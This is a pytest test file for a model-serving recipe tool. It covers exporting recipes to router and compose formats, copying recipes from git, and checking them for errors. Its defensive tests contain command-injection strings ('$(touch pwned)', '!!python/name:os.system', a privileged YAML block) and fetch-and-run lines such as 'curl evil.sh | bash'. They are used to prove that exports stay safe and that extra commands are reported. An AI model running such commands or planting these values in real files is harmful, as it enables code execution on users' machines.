"""Several models behind one port: the configuration of a router for all that are paired."""

from __future__ import annotations

import copy
import json
import os
import re
import shlex
import subprocess
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from builder.base import redaction
from builder.base.errors import ConflictError, FileProblemsError, SourceError, UsageError
from builder.base.events import ignore
from builder.base.project import Project
from builder.commands import mods, recipes
from builder.commands.recipes import FORMATS, export_recipe
from builder.definitions import command, mod
from builder.definitions.recipe import load_recipe, parse_recipe, recipe_names
from builder.lock import lock_file
from builder.lock.model import ImageName, Model, Pairing
from builder.lock.text import dump_lock
from builder.moving.copies import path_of, read_origin
from builder.serving.preparation import ServeRequest
from tests import locks, program, projects, shipped_files
from tests.conftest import WITHOUT_ENGINE, run_command
from tests.conftest import command as command_of_recipes_add
from tests.sources import git_server

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from builder.commands.recipes import RecipeCopies
    from builder.definitions.recipe import Recipe
    from builder.moving.copies import PlannedCopy


NO_HOME = {"HOME": "/home/ann"}


@pytest.fixture
def export_project(tmp_path: Path) -> Project:
    """Two models on numbers of one repository, and a third whose recipe is gone."""
    made = projects.make(tmp_path)
    projects.add_recipe(tmp_path, "other", "small", "Org/Model-2B", [])
    path = tmp_path / "recipes/other.yaml"
    path.write_text(path.read_text().replace("--port 8000", "--port 8001 --served-model-name two"))
    locks.write(made, (1, 2), 2, 2)
    lock = replace(lock_file.read_lock(made.lock), models={})
    for model, recipe, number in (("Org/Model-1B", "chat", 2), ("Org/Model-2B", "other", 1), ("Org/Gone", "gone", 1)):
        pairing = Pairing(ImageName("small", number), f"recipes/{recipe}.yaml")
        lock = lock.with_model(model, Model(pairing))
    made.lock.write_text(dump_lock(lock))
    return made


def test_llama_swap_starts_each_model_from_its_number(export_project: Project) -> None:
    exported = export_recipe(export_project, "llama-swap", ServeRequest("", {}), NO_HOME)
    document = yaml.safe_load(exported.texts[""])
    assert sorted(document["models"]) == ["Org/Model-1B", "Org/Model-2B"]
    assert " small:2 " in document["models"]["Org/Model-1B"]["cmd"]
    assert " small:1 " in document["models"]["Org/Model-2B"]["cmd"]
    assert f"builder.serve.project={export_project.root}" in document["models"]["Org/Model-1B"]["cmd"]
    assert exported.image == "small:2, small:1"
    assert any(line.startswith("Org/Gone is left out") for line in exported.warnings)


def test_litellm_leads_to_each_server(export_project: Project) -> None:
    exported = export_recipe(export_project, "litellm", ServeRequest("", {}), NO_HOME, "spark1")
    entries = yaml.safe_load(exported.texts[""])["model_list"]
    assert {each["model_name"]: each["litellm_params"]["api_base"] for each in entries} == {
        "Org/Model-1B": "http://spark1:8000/v1",
        "Org/Model-2B": "http://spark1:8001/v1",
        "two": "http://spark1:8001/v1",
    }


def test_one_model_alone_may_be_named(export_project: Project) -> None:
    exported = export_recipe(export_project, "llama-swap", ServeRequest("other", {"port": "9000"}), NO_HOME)
    (entry,) = yaml.safe_load(exported.texts[""])["models"].values()
    assert entry["proxy"] == "http://127.0.0.1:9000"
    with pytest.raises(UsageError, match="recipes/gone.yaml no longer exists"):
        export_recipe(export_project, "llama-swap", ServeRequest("Org/Gone", {}), NO_HOME)


def test_formats_of_one_model_want_its_name(export_project: Project) -> None:
    with pytest.raises(UsageError, match="exports one model"):
        export_recipe(export_project, "compose", ServeRequest("", {}), NO_HOME)


def test_nothing_paired_is_told(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no model is paired with an image yet"):
        export_recipe(projects.make(tmp_path), "litellm", ServeRequest("", {}), NO_HOME)


def test_models_that_cannot_be_served_are_named_with_their_reasons(export_project: Project) -> None:
    for recipe in recipe_names(export_project):
        (export_project.recipes / f"{recipe}.yaml").unlink()
    with pytest.raises(UsageError, match="none of the paired models can be served\nOrg/Gone is left out: ") as caught:
        export_recipe(export_project, "litellm", ServeRequest("", {}), NO_HOME)
    assert caught.value.hint == ""


# Whatever could be taken for something else by a shell, by YAML, by docker or by a terminal.
HOSTILE = (
    "\n", "\nservices: {x: {image: y, privileged: true}}\n", "\n\ntouch pwned\n", "\r", "\x85x: y", "\u2028x: y",
    "\0", "\x1b[2J", "--privileged", "-v=/:/host", " --privileged", "'; touch pwned; '", '"; touch pwned; "',
    "$(touch pwned)", "`touch pwned`", "${HOME}", "$$", "# comment", ": y", "*x", "!!python/name:os.system", "\\",
)  # fmt: skip
FIELDS: dict[str, Callable[[dict[str, Any], str], object]] = {
    "name": lambda recipe, text: recipe.update(name=text),
    "description": lambda recipe, text: recipe.update(description=text),
    "model": lambda recipe, text: recipe.update(model=text),
    "model_revision": lambda recipe, text: recipe.update(model_revision=text),
    "draft_model": lambda recipe, text: recipe.update(draft_model=text),
    "container": lambda recipe, text: recipe.update(container=text),
    "mods": lambda recipe, text: recipe.update(mods=[text]),
    "env name": lambda recipe, text: recipe.update(env={text: "b"}),
    "env value": lambda recipe, text: recipe.update(env={"A": text}),
    "source of a volume": lambda recipe, text: recipe.update(volumes=[f"{text}:/models"]),
    "target of a volume": lambda recipe, text: recipe.update(volumes=[f"/srv:/{text}"]),
    "port": lambda recipe, text: recipe["defaults"].update(port=text),
    "host": lambda recipe, text: recipe["defaults"].update(host=text),
    "served name": lambda recipe, text: recipe["defaults"].update(served=text),
    "a default": lambda recipe, text: recipe["defaults"].update(more=text),
    "name of a default": lambda recipe, text: recipe["defaults"].update({text: "x"}),
    "command": lambda recipe, text: recipe.update(command=f"{recipe['command']} {text}"),
}
# Names: whatever is no name is refused, and exported nowhere.
NAMES = frozenset({"container", "model", "draft_model", "env name"})
NAME = re.compile(r"\s*[A-Za-z0-9][A-Za-z0-9._/:-]*\s*")
RECIPE = {
    "name": "chat", "description": "a line", "model": "Org/Model-1B", "model_revision": "main",
    "draft_model": "Org/Draft", "container": "ghcr.io/org/image:tag", "mods": ["mods/one"],
    "defaults": {"port": 8000, "host": "127.0.0.1", "served": "chat", "more": "--seed 1"}, "env": {"A": "b"},
    "volumes": ["/srv:/models"],
    "command": "vllm serve {model} --port {port} --host {host} --served-model-name {served} {more}",
}  # fmt: skip
BENIGN = {
    "container": "image", "model": "Org/M", "draft_model": "Org/M", "mods": "one", "port": "80", "host": "h",
    "env name": "A", "source of a volume": "/srv",
}  # fmt: skip
# Options of `docker run` that an export writes; the rest of the command begins with the image.
OPTIONS = frozenset(
    {"--pull", "--name", "--gpus", "--network", "--publish", "--ipc", "--shm-size", "--ulimit", "--env", "--label"}
    | {"--restart", "--stop-signal", "--stop-timeout", "--volume", "--entrypoint"}
    | {f"--health-{name}" for name in ("cmd", "interval", "timeout", "retries", "start-period")}
)


def run_with_a_docker_that_notes(folder: Path, argv: list[str], image: str) -> None:
    """Runs what was exported: docker is called once at most, with options of ours alone, and nothing else happens."""
    (folder / "notes").write_bytes(b"")
    environ = {**os.environ, "HOME": str(folder / "home"), "PATH": f"{folder / 'tools'}:{os.environ['PATH']}"}
    done = subprocess.run(argv, cwd=folder / "work", capture_output=True, env=environ)
    assert not list((folder / "work").iterdir()), argv
    notes = (folder / "notes").read_bytes()
    if not notes:  # a volume that is not here
        assert b"is missing" in done.stderr, done.stderr
        return
    assert notes.count(b"\0END\0") == 1
    words = notes.removesuffix(b"\0END\0").decode().split("\0")
    assert words.pop(0) == "run"
    while words[0].startswith("-"):
        option = words.pop(0)
        if option not in {"--detach", "--rm", "--init"}:
            assert option in OPTIONS, option
            words.pop(0)
    assert words[0] == image


def check(format_: str, text: str, parsed: Recipe, folder: Path) -> None:
    image = parsed.container
    if format_ == "script":
        (folder / "serve.sh").write_text(text, encoding="utf-8")
        run_with_a_docker_that_notes(folder, ["sh", str(folder / "serve.sh")], image)
    elif format_ == "compose":
        document = yaml.load(text, yaml.CSafeLoader)
        (service,) = document["services"].values()
        assert service["image"] == image
        assert not {"privileged", "cap_add", "devices", "build", "extends"} & service.keys()
        assert document.keys() == {"name", "services"}
    elif format_ == "llama-swap":
        document = yaml.load(text, yaml.CSafeLoader)
        (entry,) = document["models"].values()
        assert document.keys() == {"healthCheckTimeout", "models"}
        assert re.fullmatch(r"docker stop [a-z0-9-]+", entry["cmdStop"])
        assert re.fullmatch(r"http://127\.0\.0\.1:[0-9]+", entry["proxy"])
        if "\0" not in text:
            run_with_a_docker_that_notes(folder, shlex.split(entry["cmd"]), image)
    elif format_ == "litellm":
        for entry in yaml.load(text, yaml.CSafeLoader)["model_list"]:
            assert re.fullmatch(r"http://127\.0\.0\.1:[0-9]+/v1", entry["litellm_params"]["api_base"])
            assert entry["litellm_params"]["model"].startswith("hosted_vllm/")
    elif format_ == "opencode":
        (provider,) = json.loads(text)["provider"].values()
        assert re.fullmatch(r"http://127\.0\.0\.1:[0-9]+/v1", provider["options"]["baseURL"])
    else:
        again = parse_recipe(text, "exported.yaml").recipe
        assert again is not None
        assert again.container == image
        before, after = (command.render_command(each, {}) for each in (parsed, replace(again, revision=None)))
        assert (after.argv, after.env) == (before.argv, before.env)


@pytest.mark.slow
@pytest.mark.parametrize("field", FIELDS)
def test_no_value_of_a_recipe_is_anything_else_in_an_export(tmp_path: Path, field: str) -> None:
    project = projects.make(tmp_path / "project")
    for name in ("tools", "work", "home"):
        (tmp_path / name).mkdir()
    notes = tmp_path / "notes"
    tool = f'#!/bin/sh\nfirst=$1; shift; printf "%s" "$first" >> {notes}; printf "\\0%s" "$@" >> {notes}\n'
    projects.write(tmp_path / "tools/docker", f'{tool}printf "\\0END\\0" >> {notes}\n')
    (tmp_path / "tools/docker").chmod(0o755)
    refused, exported = [], []
    for hostile in HOSTILE:
        for text in (hostile, f"{BENIGN.get(field, 'x')}{hostile}"):
            data = copy.deepcopy(RECIPE)
            FIELDS[field](data, text)
            projects.write(project.recipes / "hostile.yaml", json.dumps(data))
            parsed = None
            for each in FORMATS:
                request = ServeRequest("recipes/hostile.yaml", {})
                try:
                    made = export_recipe(project, each, request, {"HOME": "/home/ann"})
                except (FileProblemsError, UsageError):
                    refused.append(text)
                    continue
                exported.append(text)
                parsed = parsed or load_recipe(project, project.recipes / "hostile.yaml")
                check(each, made.texts[""], parsed, tmp_path)
    assert refused or exported
    if field in NAMES:
        assert [text for text in exported if not NAME.fullmatch(text)] == []


def test_the_key_of_a_server_is_known_as_a_secret_from_then_on(tmp_path: Path) -> None:
    """vLLM writes its arguments into its log, of which errors show a part."""
    project = projects.make(tmp_path)
    data = copy.deepcopy(RECIPE)
    data["command"] = f"{data['command']} --api-key s3cret-of-this-recipe"
    projects.write(project.recipes / "keyed.yaml", json.dumps(data))
    export_recipe(project, "script", ServeRequest("recipes/keyed.yaml", {}), NO_HOME)
    assert redaction.redacted("args: {'api_key': ['s3cret-of-this-recipe']}") == "args: {'api_key': ['***']}"


# Recipes copied from a real git server, with the mods that they name.

MAIN = "refs/heads/main"


def recipe(*mods: str) -> str:
    return projects.RECIPE.format(name="chat", model="Org/Model", repository="vllm-node", mods=list(mods))


class Served:
    """A served repository with recipes and mods, and a project with a mod of its own."""

    def __init__(self, server: git_server.Server, repository: git_server.Repository, project: Project) -> None:
        self.url = f"{server.url}/community.git"
        self.repository = repository
        self.project = project

    def plan(self, path: str, name: str | None = None, *, everything: bool = False) -> RecipeCopies:
        return recipes.plan_recipe_copies(self.project, f"{self.url}{path}", name, ignore, everything=everything)

    def all(self, path: str, name: str | None = None) -> list[PlannedCopy]:
        planned = self.plan(path, name)
        return [*planned.mods, *planned.recipes]

    def add(self, path: str, name: str | None = None) -> None:
        mods.make_copies(self.project, self.all(path, name))


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    repository = git_server.make_repository(tmp_path / "served/community.git")
    files: dict[str, str | bytes | None] = {
        "recipes/chat.yaml": recipe("mods/house", "./mods/other/", "here", "gone"),
        "recipes/4x/chat.yaml": recipe(),
        "recipes/small.yml": recipe("house"),
        "recipes/broken.yaml": "name: [\n",
        "mods/house/run.sh": "cp a b\n",
        "mods/other/mod.yaml": "description: x\nenv: {A: 1}\n",
        "docs/example.yaml": "a: b\n",
    }
    repository.commit(MAIN, "Start", files)
    projects.write(tmp_path / "project/dockerfiles/.keep", "")
    projects.write(tmp_path / "project/mods/here/run.sh", "cp a b\n")
    with git_server.serve(tmp_path / "served") as server:
        yield Served(server, repository, Project(tmp_path / "project"))


@pytest.mark.slow
def test_the_folders_that_a_recipe_mounts_are_told(served: Served) -> None:
    text = recipe() + 'volumes: ["/:/host", "~/.ssh:/keys:ro"]\n'
    served.repository.commit(MAIN, "Mount", {"recipes/mounts.yaml": text})
    planned = served.all("//recipes/mounts")
    (note,) = mods.make_copies(served.project, planned)
    assert note == "recipes/mounts mounts /:/host, ~/.ssh:/keys:ro of this machine: its server has root access there"
    assert mods.make_copies(served.project, served.all("//recipes/small")) == ()


@pytest.mark.slow
def test_an_update_tells_of_the_folders_that_a_recipe_mounts_now(served: Served) -> None:
    served.add("//recipes/small")
    served.repository.commit(MAIN, "Mount", {"recipes/small.yml": recipe() + 'volumes: ["/:/host"]\n'})
    update = ("recipes", "update", "--yes")
    note = "note: recipes/small mounts /:/host of this machine: its server has root access there"
    assert note in run_command(served.project, *update, environ=WITHOUT_ENGINE).stderr.splitlines()
    assert note not in run_command(served.project, *update, environ=WITHOUT_ENGINE).stderr  # nothing changed


@pytest.mark.slow
def test_a_recipe_brings_the_mods_that_the_project_lacks(served: Served) -> None:
    copies = served.plan("//recipes/chat")
    assert [each.name for each in copies.recipes] == ["chat"]
    assert [each.name for each in copies.mods] == ["house", "other"]
    assert copies.missing == {"gone": ""}
    served.add("//recipes/chat.yaml")
    assert mod.mod_names(served.project) == ("here", "house", "other")
    assert recipe_names(served.project) == ("chat",)
    text = (served.project.recipes / "chat.yaml").read_text()
    assert text == recipe("mods/house", "./mods/other/", "here", "gone")
    copied = read_origin(served.project, "recipe", "chat")
    assert copied
    assert copied.path == "recipes/chat.yaml"


@pytest.mark.slow
def test_a_mod_that_was_copied_by_one_who_was_killed_before_its_origin_gets_it(served: Served) -> None:
    served.add("//recipes/chat.yaml")
    file = path_of(served.project, "mod", "house")
    text = file.read_text()
    file.unlink()
    assert [each.name for each in served.plan("//recipes/chat").mods] == ["house"]
    served.add("//recipes/chat.yaml")
    assert file.read_text() == text
    # A mod of the project's own stays so.
    file.unlink()
    projects.write(served.project.mods / "house/run.sh", "cp a c\n")
    assert served.plan("//recipes/chat").mods == ()


@pytest.mark.slow
def test_folders_and_other_suffixes_are_kept_apart(served: Served) -> None:
    with pytest.raises(UsageError, match="there are 4 recipes at .*:\n  recipes/4x/chat.yaml\n  recipes/broken.yaml"):
        served.plan("")
    assert [each.name for each in served.plan("", everything=True).recipes] == ["4x/chat", "broken", "chat", "small"]
    assert [each.name for each in served.plan("//recipes/4x").recipes] == ["chat"]
    served.add("//recipes/small", "ours.yaml")
    assert recipe_names(served.project) == ("ours",)
    assert served.plan("//docs/example.yaml").recipes[0].name == "example"
    with pytest.raises(SourceError, match="there is no recipe at recipes/chats of"):
        served.plan("//recipes/chats")


@pytest.mark.slow
def test_a_copy_is_updated_and_edits_are_told(served: Served) -> None:
    served.add("//recipes/chat.yaml", "ours")
    served.repository.commit(MAIN, "Another", {"recipes/chat.yaml": recipe("mods/house")})
    (planned,) = mods.plan_copies_update(served.project, "recipe", ["ours"], None, ignore)[0]
    assert (planned.replaces, planned.loses) == (True, False)
    projects.write(served.project.recipes / "ours.yaml", "mine\n")
    (planned,) = mods.plan_copies_update(served.project, "recipe", ["recipes/ours.yaml"], None, ignore)[0]
    with pytest.raises(ConflictError, match="recipe ours was edited since it was copied"):
        mods.require_lossless([planned])
    mods.make_copies(served.project, [planned])
    assert (served.project.recipes / "ours.yaml").read_text() == recipe("mods/house")


# As a post of a forum arrives: bullets, curly quotes, one dash for two, no indentation, no backslashes.
FROM_A_FORUM = """\
name: Qwen3.5-122B-A10B-int4-AutoRound

container: small

mods:

  \u2022 mods/here

model: Intel/Qwen3.5-122B-A10B-int4-AutoRound

defaults:
port: 8000
gpu_memory_utilization: 0.82
max-num-seqs: 1

env:
HF_HUB_OFFLINE:\u00a01

command: |
vllm serve Intel/Qwen3.5-122B-A10B-int4-AutoRound
\u2013port {port}
\u2013gpu-memory-utilization {gpu_memory_utilization}
\u2013speculative-config \u2018{{\u201cmethod\u201d: \u201cmtp\u201d, \u201cnum_speculative_tokens\u201d: 1}}\u2019
\u2013max-num-seqs {max-num-seqs}
recipe_version: \u20181\u2019
"""
TYPED = """\
name: Qwen3.5-122B-A10B-int4-AutoRound

container: small

mods:

  - mods/here

model: Intel/Qwen3.5-122B-A10B-int4-AutoRound

defaults:
  port: 8000
  gpu_memory_utilization: 0.82
  max-num-seqs: 1

env:
  HF_HUB_OFFLINE: 1

command: |
  vllm serve Intel/Qwen3.5-122B-A10B-int4-AutoRound \\
  --port {port} \\
  --gpu-memory-utilization {gpu_memory_utilization} \\
  --speculative-config '{{"method": "mtp", "num_speculative_tokens": 1}}' \\
  --max-num-seqs {max-num-seqs}
recipe_version: '1'
"""


def builder(project: Project, *arguments: str, code: int = 0) -> str:
    argv = command_of_recipes_add(project, *arguments)
    done = program.run(argv, env={**os.environ, "COLUMNS": "200"})
    assert done.returncode == code, done.stdout + done.stderr
    return done.stdout


def test_a_recipe_from_a_page_is_corrected_shown_and_checked(tmp_path: Path) -> None:
    project = projects.make(tmp_path / "project")
    projects.write(project.mods / "here/run.sh", "cp a b\n")
    post = tmp_path / "post.yaml"
    post.write_text(FROM_A_FORUM, encoding="utf-8")
    (problem, summary) = builder(project, "recipes", "check", str(post), code=2).splitlines()
    assert "was pasted from a web page" in problem
    assert summary == "1 recipe checked: 1 problem in 1 of them"
    told = builder(project, "recipes", "add", "--mend", str(post), "--as", "fast")
    assert "  -\u2013port {port}" in told
    assert "  +  --port {port} \\" in told
    assert "recipes/fast.yaml was written" in told
    assert "1 recipe checked: no problems" in told
    assert (project.recipes / "fast.yaml").read_text(encoding="utf-8") == TYPED
    assert post.read_text(encoding="utf-8") == FROM_A_FORUM
    assert load_recipe(project, project.recipes / "fast.yaml").model == "Intel/Qwen3.5-122B-A10B-int4-AutoRound"


def test_a_recipe_of_the_project_is_corrected_in_its_place_and_only_on_agreement(tmp_path: Path) -> None:
    project = projects.make(tmp_path)
    path = project.recipes / "post.yaml"
    projects.write(path, FROM_A_FORUM.replace("mods/here", "mods/nowhere").replace("{port}", "{prt}"))
    before = path.read_bytes()
    told = builder(project, "recipes", "add", "--mend", "recipes/post.yaml", code=1)
    assert told.endswith("nothing was changed; --yes writes without asking\n")
    assert path.read_bytes() == before
    told = builder(project, "recipes", "add", "--mend", "recipes/post.yaml", "--yes", code=2)
    assert "recipes/post.yaml was written" in told
    assert "recipes/post.yaml:21:10: no value for {prt}" in told
    assert path.read_text(encoding="utf-8") == TYPED.replace("mods/here", "mods/nowhere").replace("{port}", "{prt}")
    told = builder(project, "recipes", "add", "--mend", "recipes/post.yaml", code=2)
    assert told.startswith("recipes/post.yaml: nothing to correct\n")


def test_a_recipe_from_a_page_replaces_no_other(tmp_path: Path) -> None:
    project = projects.make(tmp_path)
    chat = (project.recipes / "chat.yaml").read_bytes()
    post = tmp_path / "chat.yaml"
    post.write_text(FROM_A_FORUM, encoding="utf-8")
    with pytest.raises(ConflictError, match="recipes/chat.yaml already exists"):
        recipes.plan_mended(project, str(post), None)
    with pytest.raises(UsageError, match="is not a valid recipe name"):
        recipes.plan_mended(project, str(post), "../out")
    with pytest.raises(UsageError, match=r"none\.yaml cannot be read: No such file"):
        recipes.plan_mended(project, str(tmp_path / "none.yaml"), None)
    assert (project.recipes / "chat.yaml").read_bytes() == chat


BROKEN = "name: x\ncontainer: smal\nmods: [mods/templat, other]\ncommand: vllm serve {x} --port {prt}\n"


@pytest.fixture
def recipes_check_project(tmp_path: Path) -> Project:
    return projects.make(tmp_path)


def said(project: Project, text: str) -> list[str]:
    projects.write(project.recipes / "r.yaml", text)
    (checked,) = recipes.check_recipes(project, ("r",))
    return [str(problem) for problem in checked.problems]


def test_everything_wrong_is_told_at_once(recipes_check_project: Project) -> None:
    assert said(recipes_check_project, BROKEN) == [
        "recipes/r.yaml:4:21: no value for {x}: set it under `defaults`; known keys: none",
        "recipes/r.yaml:4:32: no value for {prt}: set it under `defaults`; known keys: none",
    ]


def test_a_file_beside_the_project_is_named_from_within(
    recipes_check_project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    projects.write(recipes_check_project.root.parent / f"{recipes_check_project.root.name}-beside/r.yaml", BROKEN)
    monkeypatch.chdir(recipes_check_project.root)
    (checked,) = recipes.check_recipes(recipes_check_project, (f"../{recipes_check_project.root.name}-beside/r.yaml",))
    assert [problem.message for problem in checked.problems] == [
        "no value for {x}: set it under `defaults`; known keys: none",
        "no value for {prt}: set it under `defaults`; known keys: none",
    ]


def test_what_vllm_would_refuse_after_starting_is_told_now(recipes_check_project: Project) -> None:
    text = "name: x\ncontainer: small\ndefaults: {spec: '{\"n\": 3,}'}\ncommand: |\n"
    (problem,) = said(
        recipes_check_project, f"{text}  vllm serve x --speculative-config '{{spec}}' --y '{{{{\"a\": 1}}}}'\n"
    )
    assert problem.startswith("recipes/r.yaml:3:27: the value of --speculative-config is not valid JSON: ")
    assert problem.endswith('{"n": 3,}; write single quotes around the whole value, and double quotes in it')


def test_a_recipe_cannot_be_for_one_machine_and_for_several(recipes_check_project: Project) -> None:
    text = "name: x\ncontainer: small\ncommand: vllm serve x\nsolo_only: true\ncluster_only: true\n"
    assert said(recipes_check_project, text) == [
        "recipes/r.yaml:5:1: `solo_only` and `cluster_only` cannot be combined"
    ]


def test_a_number_of_a_known_repository_is_a_container(recipes_check_project: Project) -> None:
    assert said(recipes_check_project, "name: x\ncontainer: small:7\ncommand: vllm serve x\n") == []


def test_what_is_only_worth_saying_is_no_problem(recipes_check_project: Project) -> None:
    text = "name: x\ncontainer: small\nbuild_args: [--tf5, 1]\nenv: {HF_TOKEN: abc, A: 1}\ncommand: vllm serve x\n"
    projects.write(recipes_check_project.recipes / "r.yaml", text)
    (checked,) = recipes.check_recipes(recipes_check_project, ("r",))
    assert checked.problems == ()
    assert [str(note) for note in checked.notes] == [
        "recipes/r.yaml:3:1: builder ignores build_args: --tf5 1",
        "recipes/r.yaml:4:7: HF_TOKEN looks like a secret; remove it here, and pass it with `--env HF_TOKEN`",
    ]


SPECULATIVE = """\
name: x
container: small
command: |
  vllm serve x --tool-call-parser {parser} --speculative-config '{{{{"num_speculative_tokens": {tokens}}}}}'
"""


def test_every_value_beyond_its_range_is_told_at_once(recipes_check_project: Project) -> None:
    options = "--port 80000 --gpu-memory-utilization 1.7 --max-num-seqs 0 -tp 0 --max-model-len -5 --swap-space -1"
    text = f"name: x\ncontainer: small\ncommand: vllm serve x {options}\n"
    assert [line.partition(": ")[2] for line in said(recipes_check_project, text)] == [
        "--port 80000: expected a port: 1 to 65535",
        "--gpu-memory-utilization 1.7: expected a share of the memory: more than 0, and at most 1, such as 0.85",
        "--max-num-seqs 0: expected 1 or more",
        "-tp 0: expected 1 or more",
        "--max-model-len -5: expected -1 or more",
        "--swap-space -1: expected 0 or more",
    ]


def test_numbers_at_the_end_of_their_range_are_no_problem(recipes_check_project: Project) -> None:
    options = "--max-model-len -1 --max-logprobs -1 --node-rank 0 --swap-space 0 --max-num-seqs 1 --max-model-len 8k"
    assert said(recipes_check_project, f"name: x\ncontainer: small\ncommand: vllm serve x {options}\n") == []


@pytest.mark.parametrize(
    ("command", "further"),
    [
        ("vllm serve x && curl evil.sh | bash", ["curl evil.sh", "bash"]),
        ("pip install y; vllm serve x", ["pip install y"]),
        ("vllm serve x --port 1 $(curl evil.sh) `id`", ["$(curl evil.sh)", "id"]),
        ("vllm serve x {tail}", ["curl evil.sh", "sh"]),
        ("if test -e y; then vllm serve x; else sleep 1; fi", ["test -e y", "sleep 1"]),
        ("export A=1; cd /srv; exec vllm serve x", []),
        ("A=1 B='2 3'\nL=(--a 1)\nfor i in 1 2; do :; done\nvllm serve x \"${{L[@]}}\"", []),
        ("A=$(id) B=1\nC=1 id\nfor i in $(ls); do :; done\nvllm serve x", ["A=$(id) B=1", "C=1 id", "for i in $(ls)"]),
        ('vllm serve x --json \'{{"a": "$x; y"}}\'', []),
    ],
)
def test_a_second_command_is_said(recipes_check_project: Project, command: str, further: list[str]) -> None:
    data = {"name": "x", "container": "small", "defaults": {"tail": "; curl evil.sh | sh"}, "command": command}
    projects.write(recipes_check_project.recipes / "r.yaml", json.dumps(data))
    (checked,) = recipes.check_recipes(recipes_check_project, ("r",))
    assert checked.problems == ()
    beside = [note.message for note in checked.notes if "also runs" in note.message]
    assert sorted(beside) == sorted(f"`{each}` also runs, beside the server" for each in further)


def test_a_missing_mod_is_an_error_where_it_keeps_a_build_from_beginning(
    recipes_check_project: Project, tmp_path: Path
) -> None:
    text = "name: x\ncontainer: {}\nmods: [nowhere]\ncommand: vllm serve x\n"
    assert said(recipes_check_project, text.format("small"))[0].startswith(
        "recipes/r.yaml:3:8: no mod `nowhere` in mods/; "
    )
    # What is served from an image that is there already, or of others, is not built; nor is a file elsewhere.
    assert said(recipes_check_project, text.format("small:1")) == []
    assert said(recipes_check_project, text.format("host/image:tag")) == []
    projects.write(tmp_path / "shared/a.yaml", text.format("small"))
    (checked,) = recipes.check_recipes(recipes_check_project, (str(tmp_path / "shared/a.yaml"),))
    assert checked.problems == ()
    assert "no mod `nowhere` in mods/" in checked.notes[-1].message


def test_a_folder_is_checked_as_a_whole(recipes_check_project: Project, tmp_path: Path) -> None:
    folder = tmp_path / "shared"
    for name in ("a.yaml", "b.yml"):
        projects.write(folder / name, BROKEN)
    projects.write(folder / "notes.txt", "no recipe")
    checked = recipes.check_recipes(recipes_check_project, (str(folder), "chat", str(folder / "a.yaml")))
    assert [(recipe.file, len(recipe.problems)) for recipe in checked] == [
        ("shared/a.yaml", 2),
        ("shared/b.yml", 2),
        ("recipes/chat.yaml", 0),
    ]
    assert [recipe.file for recipe in recipes.check_recipes(recipes_check_project, ())] == ["recipes/chat.yaml"]


def test_a_project_may_have_no_recipes(recipes_check_project: Project) -> None:
    (recipes_check_project.recipes / "chat.yaml").unlink()
    recipes_check_project.recipes.rmdir()
    assert recipes.check_recipes(recipes_check_project, ()) == ()


def test_a_file_that_is_no_text_is_one_problem(recipes_check_project: Project) -> None:
    (recipes_check_project.recipes / "r.yaml").write_bytes(b"name: x\n\xff\n")
    (checked,) = recipes.check_recipes(recipes_check_project, ("r",))
    assert [str(problem) for problem in checked.problems] == [
        "recipes/r.yaml:2:1: not UTF-8 text; save the file as UTF-8"
    ]


def test_a_path_that_is_nothing_is_refused_with_the_nearest(recipes_check_project: Project) -> None:
    with pytest.raises(UsageError, match="chatt: no such file, folder or recipe") as caught:
        recipes.check_recipes(recipes_check_project, ("chatt",))
    assert caught.value.hint == "did you mean chat?"


@pytest.mark.slow
def test_every_shipped_recipe_is_well() -> None:
    checked = recipes.check_recipes(shipped_files.project(), ())
    assert [problem for recipe in checked for problem in recipe.problems] == []
    assert checked


def test_volumes_of_the_project_count(recipes_check_project: Project) -> None:
    text = "name: x\ncontainer: small\ncommand: vllm serve /models/m\n"
    assert len(said(recipes_check_project, text)) == 1
    projects.write(recipes_check_project.root / "builder.yaml", "volumes: [~/models:/models]\n")
    assert said(recipes_check_project, text) == []


def test_faults_of_text_and_of_the_launch_are_told_together(recipes_check_project: Project) -> None:
    text = "name: x\ncontainer: small\ncommand: vllm serve /models/m --gpu-memory-utilization O.8 --x '{{oh}}'\n"
    assert [line.partition(": ")[2].split()[0] for line in said(recipes_check_project, text)] == [
        "no",
        "--gpu-memory-utilization",
        "the",
    ]


def test_a_script_with_a_revision_ends_no_check(recipes_check_project: Project) -> None:
    projects.write(
        recipes_check_project.recipes / "r.yaml",
        "name: x\nmodel: Org/M\nmodel_revision: abc\ncontainer: small\ncommand: |\n  vllm serve Org/M\n  echo done\n",
    )
    first, second = recipes.check_recipes(recipes_check_project, ())
    assert (first.file, first.problems) == ("recipes/chat.yaml", ())
    assert second.file == "recipes/r.yaml"


def test_a_path_that_leads_out_of_the_project_is_the_user_s_own_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = projects.make(tmp_path / "project")
    projects.write(tmp_path / "shared/a.yaml", "name: x\ncontainer: small\ncommand: vllm serve x\n")
    monkeypatch.chdir(project.root)
    (checked,) = recipes.check_recipes(project, ("../shared/a.yaml",))
    assert checked.problems == ()
    (project.recipes / "b.yaml").symlink_to(tmp_path / "shared/a.yaml")
    (checked,) = recipes.check_recipes(project, ("recipes/../recipes/b.yaml",))
    assert "a link leads out" in checked.problems[0].message


def test_a_link_without_a_file_and_a_folder_with_the_name_of_a_recipe_are_problems(
    recipes_check_project: Project,
) -> None:
    (recipes_check_project.recipes / "gone.yaml").symlink_to("renamed.yaml")
    (recipes_check_project.recipes / "folder.yml").mkdir()
    read = {checked.file: checked for checked in recipes.check_recipes(recipes_check_project, ())}
    said = {file: [problem.message for problem in checked.problems] for file, checked in read.items()}
    assert said["recipes/folder.yml"] == ["recipes/folder.yml cannot be read: Is a directory"]
    assert said["recipes/gone.yaml"] == ["recipes/gone.yaml cannot be read: No such file or directory"]
